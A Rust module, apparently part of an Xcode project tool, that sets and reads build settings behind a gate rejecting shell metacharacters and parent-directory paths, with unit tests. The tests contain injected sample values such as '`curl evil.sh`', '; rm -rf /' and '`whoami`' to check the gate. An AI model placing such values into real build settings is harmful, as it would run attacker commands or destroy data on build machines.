//! Build-setting reads and writes with a dangerous-value gate.

use std::collections::BTreeMap;
use std::sync::LazyLock;

use regex::Regex;

use crate::core::graph::Graph;
use crate::core::types::NodeId;
use crate::error::{GraphError, GraphResult};

/// Plain or conditional key, e.g. `OTHER_LDFLAGS[sdk=iphoneos*]`.
static KEY_RE: LazyLock<Regex> =
    LazyLock::new(|| Regex::new(r"^[A-Za-z_][A-Za-z0-9_]*(?:\[[^\]\n]+\])*$").unwrap());

/// `$(NAME)`, `${NAME}` and `$(NAME:modifier)` build-variable references.
static VARIABLE_RE: LazyLock<Regex> = LazyLock::new(|| {
    Regex::new(r"\$\([A-Za-z_][A-Za-z0-9_]*(?::[A-Za-z0-9_,=]+)?\)|\$\{[A-Za-z_][A-Za-z0-9_]*\}")
        .unwrap()
});

const FORBIDDEN_CHARS: [(char, &str); 8] = [
    ('`', "command substitution"),
    (';', "command separator"),
    ('|', "pipe"),
    ('&', "background or chained command"),
    ('<', "redirection"),
    ('>', "redirection"),
    ('\n', "line break"),
    ('\r', "line break"),
];

/// Whether values pass through [`check_setting_value`] before being written.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum ValuePolicy {
    RejectDangerous,
    AllowAll,
}

/// Keys whose values reach a command line or a search path.
fn is_path_sensitive(key: &str) -> bool {
    let base = key.split('[').next().unwrap_or(key);
    base.contains("FLAGS") || base.ends_with("_SEARCH_PATHS")
}

/// Reject values that could inject shell syntax or escape the project tree.
pub fn check_setting_value(key: &str, value: &str) -> GraphResult<()> {
    let dangerous = |reason: &str| GraphError::DangerousValue {
        key: key.to_string(),
        value: value.to_string(),
        reason: reason.to_string(),
    };

    if let Some((_, reason)) = FORBIDDEN_CHARS.iter().find(|(c, _)| value.contains(*c)) {
        return Err(dangerous(reason));
    }
    if VARIABLE_RE.replace_all(value, "").contains('$') {
        return Err(dangerous("shell expansion outside a build variable"));
    }
    if is_path_sensitive(key) {
        let escapes = value
            .split(|c: char| matches!(c, '/' | '\\' | '=' | ',') || c.is_whitespace())
            .map(|segment| segment.trim_matches(|c: char| c == '"' || c == '\''))
            .any(|segment| segment.ends_with(".."));
        if escapes {
            return Err(dangerous("parent-directory path segment"));
        }
    }
    Ok(())
}

fn check_key(key: &str) -> GraphResult<()> {
    if KEY_RE.is_match(key) {
        Ok(())
    } else {
        Err(GraphError::invalid(key, "not a build setting name"))
    }
}

/// Configuration ids of `list` named `configuration` (all when `None`).
fn select_configurations(
    graph: &Graph,
    list: NodeId,
    configuration: Option<&str>,
    owner: &str,
) -> GraphResult<Vec<NodeId>> {
    let all = graph.configurations_of(list);
    let Some(wanted) = configuration else {
        return Ok(all);
    };
    let matched: Vec<NodeId> = all
        .into_iter()
        .filter(|id| graph.configuration(*id).is_some_and(|c| c.name == wanted))
        .collect();
    if matched.is_empty() {
        return Err(GraphError::ConfigurationNotFound {
            configuration: wanted.to_string(),
            owner: owner.to_string(),
        });
    }
    Ok(matched)
}

/// Set `key = value` on every matching configuration of each target, or of
/// the project when `targets` is empty. Returns how many configurations
/// changed.
///
/// Every target and configuration is resolved before anything is written.
pub fn set_build_setting(
    graph: &mut Graph,
    key: &str,
    value: &str,
    targets: &[String],
    configuration: Option<&str>,
    policy: ValuePolicy,
) -> GraphResult<usize> {
    check_key(key)?;
    if policy == ValuePolicy::RejectDangerous {
        check_setting_value(key, value)?;
    }

    let mut selected = Vec::new();
    if targets.is_empty() {
        let list = graph.project_configuration_list();
        selected.extend(select_configurations(graph, list, configuration, "project")?);
    } else {
        for (name, id) in targets.iter().zip(graph.require_targets(targets)?) {
            let list = graph
                .target(id)
                .map(|target| target.configuration_list)
                .ok_or_else(|| GraphError::TargetNotFound(name.clone()))?;
            selected.extend(select_configurations(graph, list, configuration, name)?);
        }
    }

    for id in &selected {
        if let Some(config) = graph.configuration_mut(*id) {
            config.settings.insert(key.to_string(), value.to_string());
        }
    }
    Ok(selected.len())
}

/// Settings per configuration name for `target` (the project when `None`).
pub fn get_build_settings(
    graph: &Graph,
    target: Option<&str>,
    configuration: Option<&str>,
) -> GraphResult<BTreeMap<String, BTreeMap<String, String>>> {
    let (list, owner) = match target {
        Some(name) => {
            let id = graph.require_target(name)?;
            let list = graph
                .target(id)
                .map(|target| target.configuration_list)
                .ok_or_else(|| GraphError::TargetNotFound(name.to_string()))?;
            (list, name)
        }
        None => (graph.project_configuration_list(), "project"),
    };
    let selected = select_configurations(graph, list, configuration, owner)?;
    Ok(selected
        .into_iter()
        .filter_map(|id| graph.configuration(id))
        .map(|config| (config.name.clone(), config.settings.clone()))
        .collect())
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::error::ErrorKind;
    use crate::test_support::graph_with_app_target;

    fn app(targets: &[&str]) -> Vec<String> {
        targets.iter().map(|t| t.to_string()).collect()
    }

    #[test]
    fn set_without_configuration_updates_both() {
        let mut graph = graph_with_app_target();
        let changed = set_build_setting(
            &mut graph,
            "SWIFT_VERSION",
            "5.9",
            &app(&["App"]),
            None,
            ValuePolicy::RejectDangerous,
        )
        .expect("set");
        assert_eq!(changed, 2);

        let settings = get_build_settings(&graph, Some("App"), None).expect("get");
        assert_eq!(settings.len(), 2);
        for (name, values) in &settings {
            assert_eq!(
                values.get("SWIFT_VERSION").map(String::as_str),
                Some("5.9"),
                "{name}"
            );
        }
    }

    #[test]
    fn set_single_configuration_and_project_level() {
        let mut graph = graph_with_app_target();
        set_build_setting(
            &mut graph,
            "ENABLE_TESTABILITY",
            "YES",
            &[],
            Some("Debug"),
            ValuePolicy::RejectDangerous,
        )
        .expect("project set");
        let project = get_build_settings(&graph, None, None).expect("project");
        assert_eq!(
            project["Debug"].get("ENABLE_TESTABILITY").map(String::as_str),
            Some("YES")
        );
        assert!(!project["Release"].contains_key("ENABLE_TESTABILITY"));
    }

    #[test]
    fn dangerous_value_is_rejected_without_changes() {
        let mut graph = graph_with_app_target();
        let before = graph.clone();
        let err = set_build_setting(
            &mut graph,
            "OTHER_LDFLAGS",
            "-framework `curl evil.sh`",
            &app(&["App"]),
            None,
            ValuePolicy::RejectDangerous,
        )
        .expect_err("dangerous");
        assert!(matches!(err, GraphError::DangerousValue { .. }));
        assert_eq!(err.kind(), ErrorKind::InvalidArgument);
        assert_eq!(graph, before);
    }

    #[test]
    fn value_gate_allows_build_variables() {
        assert!(
            check_setting_value(
                "LD_RUNPATH_SEARCH_PATHS",
                "$(inherited) @executable_path/Frameworks"
            )
            .is_ok()
        );
        assert!(check_setting_value("PRODUCT_NAME", "${TARGET_NAME}").is_ok());
        assert!(check_setting_value("PRODUCT_NAME", "$(TARGET_NAME:c99extidentifier)").is_ok());
        assert!(check_setting_value("PRODUCT_NAME", "$HOME").is_err());
        assert!(check_setting_value("OTHER_CFLAGS", "-DVERSION=1.2").is_ok());
        assert!(check_setting_value("OTHER_CFLAGS", "-I../outside").is_err());
        assert!(check_setting_value("HEADER_SEARCH_PATHS", "../../secret").is_err());
        assert!(check_setting_value("OTHER_LDFLAGS", "-L ..").is_err());
        assert!(check_setting_value("INFOPLIST_FILE", "../App/Info.plist").is_ok());
        assert!(check_setting_value("OTHER_SWIFT_FLAGS", "-D DEBUG; rm -rf /").is_err());
    }

    #[test]
    fn quoted_parent_paths_are_rejected() {
        assert!(check_setting_value("HEADER_SEARCH_PATHS", "\"../outside\"").is_err());
        assert!(check_setting_value("LIBRARY_SEARCH_PATHS", "'../../lib'").is_err());
        assert!(check_setting_value("OTHER_LDFLAGS", "-Wl,-rpath,..").is_err());
        assert!(check_setting_value("OTHER_CFLAGS", "-I\"..\"").is_err());
        assert!(
            check_setting_value("HEADER_SEARCH_PATHS", "\"$(SRCROOT)/Vendor/include\"").is_ok()
        );
    }

    #[test]
    fn unknown_configuration_and_target_fail() {
        let mut graph = graph_with_app_target();
        assert_eq!(
            set_build_setting(
                &mut graph,
                "SWIFT_VERSION",
                "6.0",
                &app(&["App"]),
                Some("Staging"),
                ValuePolicy::RejectDangerous,
            ),
            Err(GraphError::ConfigurationNotFound {
                configuration: "Staging".to_string(),
                owner: "App".to_string(),
            })
        );
        assert_eq!(
            get_build_settings(&graph, Some("Nope"), None),
            Err(GraphError::TargetNotFound("Nope".to_string()))
        );
        assert!(matches!(
            set_build_setting(&mut graph, "BAD KEY", "x", &[], None, ValuePolicy::AllowAll),
            Err(GraphError::InvalidArgument { .. })
        ));
    }

    #[test]
    fn allow_all_policy_skips_the_gate() {
        let mut graph = graph_with_app_target();
        let changed = set_build_setting(
            &mut graph,
            "OTHER_LDFLAGS",
            "-l`whoami`",
            &app(&["App"]),
            Some("Release"),
            ValuePolicy::AllowAll,
        )
        .expect("set");
        assert_eq!(changed, 1);
    }
}
